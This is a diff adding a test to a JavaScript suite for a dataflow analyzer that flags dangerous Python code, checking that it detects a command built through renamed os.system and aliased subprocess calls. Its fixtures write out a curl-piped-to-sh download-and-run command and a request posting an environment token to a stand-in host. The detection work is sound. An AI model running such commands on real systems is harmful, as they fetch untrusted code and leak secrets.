@@ -349,6 +349,15 @@ describe('dataflow analysis', () => {
       assert.deepEqual(analysis.builtCommands.map((command) => command.text), ['curl -s https://c.example/x | sh']);
     });
 
+    it('reads a renamed callable and a renamed import after thousands of assignments and imports (Python)', async () => {
+      const assignments = Array.from({ length: 5_000 }, (_, i) => `p${i} = ${i}`).join('\n');
+      const renamed = await analysisOf('python', `import os\n${assignments}\nrun = os.system\nrun('curl -s https://c.example/x | sh')\n`);
+      assert.deepEqual(renamed.builtCommands.map((command) => command.text), ['curl -s https://c.example/x | sh']);
+      const imports = Array.from({ length: 2_500 }, (_, i) => `import m${i}`).join('\n');
+      const aliased = await analysisOf('python', `${imports}\nimport subprocess as sp\nsp.run('curl -s https://c.example/x | sh', shell=True)\n`);
+      assert.deepEqual(aliased.builtCommands.map((command) => command.text), ['curl -s https://c.example/x | sh']);
+    });
+
     it('does not loop on recursive helpers', async () => {
       const flows = await flowsOf('python', "import os, requests\ndef f(x):\n    return g(x)\ndef g(x):\n    return f(x)\nrequests.post('https://c.example/u', data=f(os.environ['ACME_TOKEN']))\n");
       assert.deepEqual(flows, []);
